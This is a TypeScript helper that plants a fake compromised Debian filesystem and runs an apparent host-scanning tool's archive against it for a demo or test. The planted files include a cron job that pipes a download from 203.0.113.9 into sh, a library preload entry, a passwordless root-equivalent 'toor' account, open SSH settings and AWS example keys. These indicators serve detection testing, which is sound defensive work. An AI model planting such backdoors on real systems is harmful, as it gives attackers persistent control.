/** A folder that stands for `/` of a host where somebody was, looked at by the real archive of checks with the bash of this machine. */
import { execFile } from 'node:child_process';
import { mkdir, readdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';

const run = promisify(execFile);

/** Names of checks that judge files alone: what this machine itself runs is none of the demo's. */
export const CHECKS: readonly string[] = ['ACC-*', 'BKD-0*', 'CRD-0*', 'SSH-0*'];

/** Keys as AWS prints them in its own pages. */
const CREDENTIALS =
  '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n';

const PLANTED: readonly (readonly [path: string, text: string, mode: number])[] = [
  ['etc/os-release', 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n', 0o644],
  ['etc/hostname', 'archive-1\n', 0o644],
  ['etc/machine-id', '0123456789abcdef0123456789abcdef\n', 0o444],
  ['etc/passwd', 'root:x:0:0::/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n', 0o644],
  ['etc/shadow', 'root:*:19000:0:99999:7:::\ntoor::19000:0:99999:7:::\n', 0o600],
  ['etc/ld.so.preload', '/usr/lib/.cache/libsys.so\n', 0o644],
  ['etc/cron.d/update', '* * * * * root curl -s http://203.0.113.9/x | sh\n', 0o644],
  ['etc/ssh/sshd_config', 'PermitRootLogin yes\nPasswordAuthentication yes\n', 0o644],
  ['root/.aws/credentials', CREDENTIALS, 0o644],
];

/** Makes the host in `folder`, scans it with the archive at `archive`, and resolves to the result that can be carried. */
export async function scanPlantedHost(folder: string, archive: string): Promise<string> {
  const root = join(folder, 'root');
  for (const [path, text, mode] of PLANTED) {
    await mkdir(dirname(join(root, path)), { recursive: true });
    await writeFile(join(root, path), text, { mode });
  }
  await run('tar', ['-xzf', archive, '-C', folder]);
  const script = join(folder, 'holdfast-scan/holdfast-scan.sh');
  // From no folder of whoever looks: the archive runs nothing that others could have put there.
  await run('/bin/bash', [script, '--root', root, '--to', folder], { cwd: '/', env: {} });
  const result = (await readdir(folder)).find((name) => name.endsWith('.jsonl.gz'));
  if (result === undefined) throw new Error('Scan the host of the demo: the archive wrote no result');
  return join(folder, result);
}
